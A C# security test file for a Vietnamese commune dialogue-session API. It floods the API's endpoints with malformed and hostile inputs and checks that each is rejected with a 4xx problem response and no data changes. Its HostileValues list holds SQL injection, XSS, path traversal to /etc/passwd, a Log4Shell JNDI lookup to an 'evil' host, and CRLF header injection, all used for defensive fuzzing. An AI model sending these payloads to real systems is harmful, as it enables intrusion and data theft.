using System.Net;
using System.Text;
using System.Text.Json.Nodes;

namespace DoiThoai.Api.Tests.Security;

/// <summary>
/// Every JSON and CSV entry point, and the query parameters that are parsed, fed input that is invalid by
/// construction: broken syntax, wrong types, values out of range, control characters, lone surrogates, invalid UTF-8,
/// SQL and script injection text where a date, a number, a code or a choice is expected, text over its length,
/// bodies over the size limit. Every answer must be a 4xx RFC 7807 problem, none a 5xx, and nothing may change.
/// </summary>
[Collection(PlatformCollection.Name)]
public sealed class HostileInputTests(PlatformFactory platform)
{
    private const string Commune = "00352";   // Phường Phương Liệt, Hà Nội
    private const string Province = "01";

    private enum Shape { Scalar, Boolean, Object, Count }

    /// <summary>
    /// What a field holds: a free text up to a length, or a typed value (date, number, choice, code, list, flag, object).
    /// A count (people, signatures) takes any whole number up to millions, so a large number is no hostile value for it.
    /// </summary>
    private sealed record Field(string Name, int? MaxText = null, Shape Shape = Shape.Scalar, bool Optional = false);

    private sealed record EntryPoint(string Method, string Url, string Template, params Field[] Fields);

    /// <summary>Strings that no date, number, choice, code, time or list accepts.</summary>
    private static readonly string[] HostileValues =
    [
        "'; DROP TABLE sessions; --", "1 OR 1=1", "\" OR \"\"=\"", "<script>alert('xss')</script>", "<img src=x onerror=alert(1)>",
        "../../../../etc/passwd", "${jndi:ldap://evil/x}", "{{7*7}}", "a\r\nSet-Cookie: x=1", "\u0000", "\ud800",
        "NaN", "1e309", "-99999999999999999999", "9999-12-31T23:59:59Z", "0001-01-01T00:00:00+07:00", "2026-02-30T08:00:00+07:00",
        "２０２６", "🙂", new string('9', 5000), "",
    ];

    /// <summary>Values of the wrong JSON type for any field: at least one of these is wrong for each.</summary>
    private static readonly JsonNode?[] WrongTypes = [JsonValue.Create(123456), JsonValue.Create(true), new JsonArray(), new JsonObject(), JsonValue.Create("không-phải-giá-trị")];

    /// <summary>Fields no request may leave out or set to null.</summary>
    private static readonly HashSet<string> Required =
    [
        "kind", "form", "title", "startsAt", "durationMinutes", "reason", "conclusion", "minimumNoticeDays", "dayKind", "textPolicy",
        "slots", "clusters", "date", "name", "role", "source", "field", "content", "unit", "dueDate", "answer",
        "fullName", "workplaceOrAddress", "phone", "opinion", "numbers", "text", "subject", "signatures", "voters", "receivedOn",
    ];

    private static readonly string Text1 = "Hội nghị đối thoại định kỳ";

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Fact]
    public async Task A_thousand_hostile_requests_get_problems_never_a_5xx_and_change_nothing()
    {
        using var admin = platform.CreateClient();
        var (sessionId, contactId, petitionId) = await SeedAsync(admin);
        var requestId = (await (await admin.PostJsonAsync($"/api/communes/{Commune}/dialogue-requests", """
            {"subject": "Đề nghị đối thoại về bãi đỗ xe", "signatures": 10, "voters": 5000, "receivedOn": "2026-11-01"}
            """)).JsonAsync(HttpStatusCode.Created)).Str("id");
        var before = await SnapshotAsync(admin, sessionId, contactId);

        var entryPoints = new EntryPoint[]
        {
            new("POST", $"/api/communes/{Commune}/sessions", """
                {"kind": "periodic", "form": "in-person", "title": "Đối thoại định kỳ", "startsAt": "2026-12-10T08:00:00+07:00",
                 "durationMinutes": 120, "venue": "Hội trường UBND phường", "chair": "Chủ tịch UBND phường"}
                """, new Field("kind"), new Field("form"), new Field("title", 200), new Field("startsAt"), new Field("durationMinutes"), new Field("venue", 300), new Field("chair", 200)),
            new("POST", $"/api/communes/{Commune}/sessions", """
                {"kind": "urgent", "form": "online", "title": "Sạt lở bờ sông", "startsAt": "2026-11-02T15:00:00+07:00", "durationMinutes": 60,
                 "onlineUrl": "https://hop.hanoi.gov.vn/phuong-liet", "urgentReason": "Sạt lở bờ sông cần di dời khẩn cấp",
                 "audience": {"hamlets": ["Tổ dân phố 1"], "roles": ["resident"]}}
                """, new Field("onlineUrl"), new Field("urgentReason", 2000), new Field("audience", Shape: Shape.Object), new Field("form")),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/reschedule", """{"startsAt": "2026-12-15T08:00:00+07:00", "reason": "Trùng lịch họp HĐND"}""",
                new Field("startsAt"), new Field("reason", 2000)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/cancel", """{"reason": "Trùng lịch họp HĐND"}""", new Field("reason", 2000)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/conclude", """{"conclusion": "Đã trả lời 12 ý kiến", "signedBy": "Nguyễn Văn Minh"}""",
                new Field("conclusion", 4000), new Field("signedBy", 120, Optional: true)),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/minutes", """{"minutes": "Khai mạc lúc 8 giờ."}""", new Field("minutes", 40000)),
            new("PUT", $"/api/communes/{Commune}/notice-policy", """{"minimumNoticeDays": 10, "dayKind": "calendar"}""", new Field("minimumNoticeDays"), new Field("dayKind")),
            new("PUT", $"/api/provinces/{Province}/notice-policy", """{"minimumNoticeDays": 7, "dayKind": "calendar"}""", new Field("minimumNoticeDays"), new Field("dayKind")),
            new("PUT", $"/api/provinces/{Province}/sms-policy", """{"textPolicy": "gsm7-without-diacritics"}""", new Field("textPolicy")),
            new("PUT", $"/api/communes/{Commune}/contacts/{contactId}/consent", """{"sms": false, "email": true}""", new Field("sms", Shape: Shape.Boolean), new Field("email", Shape: Shape.Boolean)),
            new("PUT", $"/api/communes/{Commune}/loudspeakers", """
                {"slots": ["06:00", "17:00"], "clusters": [{"id": "to-1", "name": "Cụm loa tổ 1", "hamlets": ["Tổ dân phố 1"]}]}
                """, new Field("slots"), new Field("clusters")),
            new("PUT", "/api/holidays/2026", """{"days": [{"date": "2026-01-01", "name": "Tết Dương lịch"}]}""", new Field("days")),
            new("POST", $"/api/communes/{Commune}/petitions", """
                {"source": "at-session", "field": "land", "content": "Đề nghị làm rõ tiến độ cấp giấy chứng nhận quyền sử dụng đất",
                 "petitionerName": "Trần Văn Bình", "petitionerPhone": "0912777666", "petitionerEmail": "binh@example.vn"}
                """, new Field("source"), new Field("field"), new Field("content", 4000), new Field("petitionerName", 100), new Field("petitionerPhone", Optional: true), new Field("petitionerEmail", Optional: true), new Field("sessionId")),
            new("POST", $"/api/communes/{Commune}/petitions/{petitionId}/assign", """{"unit": "Phòng Kinh tế", "dueDate": "2026-11-30", "note": "Ưu tiên"}""",
                new Field("unit", 200), new Field("dueDate"), new Field("note", 4000)),
            new("POST", $"/api/communes/{Commune}/petitions/{petitionId}/escalate", """{"reason": "Thuộc thẩm quyền của Sở Nông nghiệp và Môi trường"}""", new Field("reason", 4000)),
            new("POST", $"/api/communes/{Commune}/petitions/{petitionId}/answer", """{"answer": "Đã cấp giấy chứng nhận ngày 20/11/2026"}""", new Field("answer", 4000)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/speakers", """
                {"fullName": "Nguyễn Thị Hoa", "jobTitle": "Tổ trưởng", "workplaceOrAddress": "Tổ dân phố 1", "phone": "0912345111",
                 "opinion": "Đề nghị lắp đèn chiếu sáng ngõ 35", "consent": true, "editCode": "ABCDE-FGHJK"}
                """, new Field("fullName", 100), new Field("jobTitle", 100), new Field("workplaceOrAddress", 200), new Field("phone"),
                new Field("opinion", 2000), new Field("consent", Shape: Shape.Boolean), new Field("editCode", 40, Optional: true)),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/speakers/order", """{"numbers": [1]}""", new Field("numbers")),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/speakers/desk", """
                {"fullName": "Lê Văn Cường", "workplaceOrAddress": "Tổ dân phố 2", "opinion": "Thu gom rác thải"}
                """, new Field("fullName", 100), new Field("workplaceOrAddress", 200), new Field("opinion", 2000)),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/organisers", """{"chair": {"name": "Đỗ Văn Hùng", "title": "Chủ tịch UBND"}}""",
                new Field("chair", Shape: Shape.Object)),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/conclusion", """
                {"items": [{"matter": "Đèn chiếu sáng", "outcome": "to-be-handled", "unit": "Phòng Kinh tế", "dueDate": "2026-12-31"}], "closingRemarks": "Kết luận"}
                """, new Field("items"), new Field("closingRemarks", 4000, Optional: true)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/conclusion/sign", """{"signedBy": "Đỗ Văn Hùng"}""", new Field("signedBy", 120)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/preparation/milestones", """
                {"title": "In phiếu đăng ký phát biểu", "ownerUnit": "Văn phòng HĐND và UBND", "dueDate": "2026-11-25", "ownerRole": "officer"}
                """, new Field("title", 200), new Field("ownerUnit", 200), new Field("dueDate"), new Field("ownerRole")),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/preparation/milestones/venue", """{"title": "Chuẩn bị hội trường", "ownerUnit": "Văn phòng", "dueDate": "2026-12-01"}""",
                new Field("title", 200, Optional: true), new Field("ownerUnit", 200, Optional: true), new Field("dueDate", Optional: true)),
            new("POST", $"/api/communes/{Commune}/sessions/{sessionId}/preparation/milestones/venue/done", """{"note": "Đã kiểm tra âm thanh"}""", new Field("note", 2000, Optional: true)),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/preparation/agenda", """{"items": [{"startsAt": "08:00", "title": "Tuyên bố lý do", "presenter": "Văn phòng"}]}""",
                new Field("items")),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/invitees/groups", """{"groups": [{"name": "Tổ dân phố 1", "hamlet": "Tổ dân phố 1", "minimum": 5, "maximum": 7}]}""",
                new Field("groups")),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/invitees/groups/g1/members", $$"""{"contactIds": ["{{contactId}}"]}""", new Field("contactIds")),
            new("PUT", $"/api/communes/{Commune}/sessions/{sessionId}/invitees/groups/g1/fill", $$"""{"contactIds": ["{{contactId}}"]}""", new Field("contactIds")),
            new("POST", $"/api/provinces/{Province}/instructions", """{"text": "Tổ chức đối thoại định kỳ trước 15/12", "periodicBy": "2026-12-15"}""",
                new Field("text", 2000), new Field("periodicBy")),
            new("POST", $"/api/communes/{Commune}/dialogue-requests", """
                {"subject": "Đề nghị đối thoại về bãi đỗ xe", "signatures": 600, "voters": 5000, "receivedOn": "2026-11-01", "representative": "Lê Văn Tâm"}
                """, new Field("subject", 1000), new Field("signatures"), new Field("voters", Shape: Shape.Count), new Field("receivedOn"), new Field("representative", 100, Optional: true)),
            new("POST", $"/api/communes/{Commune}/dialogue-requests/{requestId}/signatures", """{"signatures": 20}""", new Field("signatures")),
            new("POST", $"/api/communes/{Commune}/dialogue-requests/{requestId}/session", $$"""{"sessionId": "{{sessionId}}"}""", new Field("sessionId")),
            new("POST", "/api/tokens", """{"name": "Nguyễn Văn An", "role": "viewer", "province": "01", "validDays": 30}""",
                new Field("name", 100), new Field("role"), new Field("province"), new Field("validDays")),
        };

        var requests = new List<(string Label, Func<HttpRequestMessage> Make)>();
        foreach (var entry in entryPoints)
        {
            requests.AddRange(JsonMutations(entry).Select(m => ($"{entry.Method} {entry.Url} {m.Label}", m.Make)));
        }

        requests.AddRange(CsvMutations());
        requests.AddRange(QueryMutations(sessionId));
        // The office's removal of a speaker by number: numbers no registration has, or that are none.
        requests.AddRange(new[] { "0", "-1", "999", "2147483648", "1e3", "1%3BDROP", "%20", "1.5" }.Select(number =>
            ($"DELETE speakers/{number}", (Func<HttpRequestMessage>)(() =>
                new HttpRequestMessage(HttpMethod.Delete, $"/api/communes/{Commune}/sessions/{sessionId}/speakers/{number}")))));

        var wrong = new List<string>();
        foreach (var (label, make) in requests)
        {
            using var request = make();
            using var response = await admin.SendAsync(request, Ct);
            var status = (int)response.StatusCode;
            var mediaType = response.Content.Headers.ContentType?.MediaType;
            if (status is < 400 or >= 500 || mediaType != "application/problem+json")
            {
                var body = await response.Content.ReadAsStringAsync(Ct);
                wrong.Add($"{Shorten(label)} → {status} {mediaType}: {Shorten(body)}");
            }
        }

        Assert.True(requests.Count >= 1000, $"Only {requests.Count} hostile requests.");
        Assert.True(wrong.Count == 0, $"{wrong.Count} of {requests.Count} answered wrongly:\n" + string.Join('\n', wrong.Take(40)));
        Assert.Equal(before, await SnapshotAsync(admin, sessionId, contactId));
    }

    private static IEnumerable<(string Label, Func<HttpRequestMessage> Make)> JsonMutations(EntryPoint entry)
    {
        HttpRequestMessage Json(string json) => new(new HttpMethod(entry.Method), entry.Url) { Content = new StringContent(json, Encoding.UTF8, "application/json") };
        HttpRequestMessage Bytes(byte[] bytes)
        {
            var content = new ByteArrayContent(bytes);
            content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue("application/json");
            return new HttpRequestMessage(new HttpMethod(entry.Method), entry.Url) { Content = content };
        }

        var template = entry.Template.Trim();
        var isArray = template.StartsWith('[');

        // Broken syntax and the wrong shape.
        foreach (var (label, json) in new[]
        {
            ("empty", ""), ("null", "null"), ("half", template[..(template.Length / 2)]), ("unclosed", isArray ? "[{" : "{"),
            ("xml", "<session><title>x</title></session>"), ("number", "42"), ("string", "\"khong-hop-le\""),
            ("other shape", isArray ? template.Replace("[", "", StringComparison.Ordinal).Replace("]", "", StringComparison.Ordinal) : $"[{template}]"),
            ("deep nesting", new string('[', 5000) + new string(']', 5000)), ("trailing garbage", template + "}}}"),
            ("comments", "/* x */" + template), ("single quotes", template.Replace('"', '\'')),
        })
        {
            yield return (label, () => Json(json));
        }

        yield return ("invalid UTF-8", () => Bytes([.. Encoding.UTF8.GetBytes(template[..^1]), .. "\"x\": \""u8.ToArray(), 0xC3, 0x28, 0xFF, .. "\"}"u8.ToArray()]));
        yield return ("over the size limit", () => Json(Replace(template, entry.Fields[0].Name, JsonValue.Create(new string('a', 300 * 1024)))));

        foreach (var field in entry.Fields)
        {
            if (Required.Contains(field.Name) && !field.Optional) // an optional field may be null: it is then no field
            {
                yield return ($"{field.Name}=null", () => Json(Replace(template, field.Name, null)));
            }

            foreach (var value in WrongTypes)
            {
                var rightType = value switch
                {
                    JsonValue v when v.TryGetValue<string>(out _) => field.MaxText is not null, // any string is the right type for a text
                    JsonValue v when v.TryGetValue<bool>(out _) => field.Shape == Shape.Boolean,
                    JsonValue v when v.TryGetValue<int>(out _) => field.Shape == Shape.Count,
                    JsonObject => field.Shape == Shape.Object,
                    _ => false,
                };
                if (rightType)
                {
                    continue;
                }

                yield return ($"{field.Name}={value?.ToJsonString()}", () => Json(Replace(template, field.Name, value?.DeepClone())));
            }

            if (field.MaxText is { } max)
            {
                foreach (var text in new[] { "a\u0000b", "chuông\u0007", "\u001b[31mđỏ", "nửa \ud83d cặp", "\udc00 đảo", new string('ă', max + 1) })
                {
                    yield return ($"{field.Name}=text({text.Length})", () => Json(Replace(template, field.Name, JsonValue.Create(text))));
                }
            }
            else
            {
                foreach (var hostile in HostileValues.Where(h => !(field.Optional && h.Length == 0))) // an empty optional field is no field
                {
                    yield return ($"{field.Name}={Shorten(hostile)}", () => Json(Replace(template, field.Name, JsonValue.Create(hostile))));
                }
            }
        }
    }

    /// <summary>The template with one field (of the object, or of the list's first object) set to a value.</summary>
    private static string Replace(string template, string field, JsonNode? value)
    {
        var root = JsonNode.Parse(template)!;
        var target = root is JsonArray array ? array[0]!.AsObject() : root.AsObject();
        target[field] = value;
        return root.ToJsonString();
    }

    private static IEnumerable<(string Label, Func<HttpRequestMessage> Make)> CsvMutations()
    {
        const string Header = "Họ và tên,Vai trò,Thôn/Tổ dân phố,Số điện thoại,Email,Đồng ý SMS,Đồng ý email\n";
        HttpRequestMessage Csv(byte[] bytes, string mediaType = "text/csv")
        {
            var content = new ByteArrayContent(bytes);
            content.Headers.ContentType = new System.Net.Http.Headers.MediaTypeHeaderValue(mediaType);
            return new HttpRequestMessage(HttpMethod.Post, $"/api/communes/{Commune}/contacts/import") { Content = content };
        }

        HttpRequestMessage Text(string csv) => Csv(Encoding.UTF8.GetBytes(csv));
        var url = $"POST /api/communes/{Commune}/contacts/import";

        foreach (var (label, csv) in new[]
        {
            ("empty", ""), ("header only", Header), ("unknown header", "a,b,c\n1,2,3\n"), ("no name column", "Thôn,SĐT\nTổ 1,0912000111\n"),
            ("unbalanced quote", Header + "\"Nguyễn Văn A,người dân,Tổ 1,0912000111,,có,\n"),
            ("no contact column", "Họ tên,Thôn\nNguyễn Văn A,Tổ 1\n"), ("duplicate columns", "Họ tên,Họ tên,Thôn,SĐT\nA,B,Tổ 1,0912000111\n"),
            ("ten thousand columns", string.Join(',', Enumerable.Repeat("x", 10_000)) + "\n"),
            ("NUL bytes", Header + "Nguyễn\u0000Văn A,người dân,Tổ 1,0912000111,,có,\n"),
            ("control in hamlet", Header + "Nguyễn Văn A,người dân,Tổ\u00071,0912000111,,có,\n"),
            ("name too long", Header + new string('A', 201) + ",người dân,Tổ 1,0912000111,,có,\n"),
            ("unknown role", Header + "Nguyễn Văn A,chủ tịch nước,Tổ 1,0912000111,,có,\n"),
            ("consent not yes/no", Header + "Nguyễn Văn A,người dân,Tổ 1,0912000111,,có lẽ,\n"),
            ("landline only", Header + "Nguyễn Văn A,người dân,Tổ 1,02438251234,,có,\n"),
            ("one giant line", Header + new string('x', 200_000) + "\n"),
        })
        {
            yield return ($"{url} {label}", () => Text(csv));
        }

        foreach (var hostile in HostileValues.Where(h => h.Length > 0))
        {
            var quoted = "\"" + hostile.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"";
            yield return ($"{url} phone={Shorten(hostile)}", () => Text(Header + $"Nguyễn Văn A,người dân,Tổ 1,{quoted},,có,\n"));
            yield return ($"{url} email={Shorten(hostile)}", () => Text(Header + $"Nguyễn Văn A,người dân,Tổ 1,,{quoted},,có\n"));
        }

        yield return ($"{url} Latin-1", () => Csv(Encoding.Latin1.GetBytes(Header + "Nguyễn Văn A,người dân,Tổ 1,0912000111,,có,\n")));
        yield return ($"{url} invalid UTF-8", () => Csv([.. Encoding.UTF8.GetBytes(Header), 0xC3, 0x28, 0xFF, .. ",người dân,Tổ 1,0912000111,,có,\n"u8.ToArray()]));
        yield return ($"{url} as JSON", () => Csv("{\"name\": \"x\"}"u8.ToArray(), "application/json"));
        yield return ($"{url} over 4 MiB", () => Text(Header + string.Concat(Enumerable.Repeat("Nguyễn Văn A,người dân,Tổ 1,0912000111,,có,\n", 120_000))));
    }

    private static IEnumerable<(string Label, Func<HttpRequestMessage> Make)> QueryMutations(string sessionId)
    {
        var targets = new (string Path, string Parameter)[]
        {
            ($"/api/communes/{Commune}/sessions", "from"), ($"/api/communes/{Commune}/sessions", "to"),
            ($"/api/communes/{Commune}/contacts", "page"), ($"/api/communes/{Commune}/contacts", "pageSize"), ($"/api/communes/{Commune}/contacts", "role"),
            ($"/api/communes/{Commune}/sessions/{sessionId}/deliveries", "channel"), ($"/api/communes/{Commune}/sessions/{sessionId}/deliveries", "pageSize"),
            ($"/api/provinces/{Province}/audit", "limit"), ($"/api/provinces/{Province}/audit", "before"),
            ($"/api/provinces/{Province}/overview", "by"),
            ($"/api/communes/{Commune}/notice-check?startsAt=2026-12-10T08:00:00%2B07:00", "kind"), ($"/api/communes/{Commune}/notice-check?kind=periodic", "startsAt"),
        };
        foreach (var (path, parameter) in targets)
        {
            // The far past and far future are moments a date range or a notice check may ask about: answered, not refused.
            var joiner = path.Contains('?', StringComparison.Ordinal) ? '&' : '?';
            foreach (var hostile in HostileValues.Where(h => h.Length > 0 && !(parameter is "from" or "to" or "startsAt" && h is "0001-01-01T00:00:00+07:00" or "9999-12-31T23:59:59Z")))
            {
                yield return ($"GET {path}{joiner}{parameter}={Shorten(hostile)}", () => new HttpRequestMessage(HttpMethod.Get, $"{path}{joiner}{parameter}={Uri.EscapeDataString(hostile)}"));
            }
        }

        // A NUL or a lone surrogate cannot be put in a path at all (the client refuses to send it).
        foreach (var hostile in HostileValues.Where(h => h.Length is > 0 and < 100 && !h.Any(c => char.IsControl(c) || char.IsSurrogate(c))))
        {
            yield return ($"GET /api/holidays/{Shorten(hostile)}", () => new HttpRequestMessage(HttpMethod.Get, $"/api/holidays/{Uri.EscapeDataString(hostile)}"));
        }
    }

    private static async Task<(string SessionId, string ContactId, string PetitionId)> SeedAsync(HttpClient admin)
    {
        await (await admin.PostAsync($"/api/communes/{Commune}/contacts/import", new StringContent(
            "Họ và tên,Vai trò,Thôn/Tổ dân phố,Số điện thoại,Email,Đồng ý SMS,Đồng ý email\nLê Thị Thu,đại biểu,Tổ dân phố 1,0912888999,thu@example.vn,có,có\n",
            Encoding.UTF8, "text/csv"), Ct)).JsonAsync(HttpStatusCode.OK);
        var contactId = (await (await admin.Get($"/api/communes/{Commune}/contacts")).JsonAsync(HttpStatusCode.OK)).GetProperty("items")[0].Str("id");
        var session = await (await admin.PostJsonAsync($"/api/communes/{Commune}/sessions", $$"""
            {"kind": "periodic", "form": "in-person", "title": "{{Text1}}", "startsAt": "2026-12-01T08:00:00+07:00", "durationMinutes": 120, "venue": "Hội trường"}
            """)).JsonAsync(HttpStatusCode.Created);
        var petition = await (await admin.PostJsonAsync($"/api/communes/{Commune}/petitions", """
            {"source": "letter", "field": "infrastructure", "content": "Đề nghị sửa đường ngõ 12"}
            """)).JsonAsync(HttpStatusCode.Created);
        return (session.Str("id"), contactId, petition.Str("id"));
    }

    private static async Task<string> SnapshotAsync(HttpClient admin, string sessionId, string contactId)
    {
        var parts = new StringBuilder();
        foreach (var url in new[]
        {
            $"/api/communes/{Commune}", $"/api/communes/{Commune}/sessions", $"/api/communes/{Commune}/sessions/{sessionId}",
            $"/api/communes/{Commune}/contacts?pageSize=200", $"/api/communes/{Commune}/contacts/{contactId}", $"/api/communes/{Commune}/loudspeakers",
            $"/api/provinces/{Province}/notice-policy", $"/api/provinces/{Province}/sms-policy", "/api/holidays/2026",
            $"/api/provinces/{Province}/audit", "/api/audit", $"/api/communes/{Commune}/petitions", $"/api/communes/{Commune}/sessions/{sessionId}/speakers",
            $"/api/communes/{Commune}/sessions/{sessionId}/preparation", $"/api/communes/{Commune}/sessions/{sessionId}/invitees",
            $"/api/provinces/{Province}/instructions", $"/api/communes/{Commune}/dialogue-requests",
        })
        {
            var text = await admin.GetStringAsync(url, Ct);
            if (url.EndsWith("audit", StringComparison.Ordinal))
            {
                // What changed, not who read: this snapshot's own read of the contact is audited, as every read of a person's data is.
                text = string.Join('\n', System.Text.Json.JsonDocument.Parse(text).RootElement.GetProperty("items").EnumerateArray()
                    .Where(e => e.GetProperty("action").GetString() != "contact.read")
                    .Select(e => $"{e.GetProperty("action").GetString()} {e.GetProperty("actor").GetString()} {e.GetProperty("target").GetString()}"));
            }

            parts.Append(url).Append(": ").AppendLine(text);
        }

        return parts.ToString();
    }

    private static string Shorten(string text) => text.Length <= 160 ? text : text[..160] + "…";
}
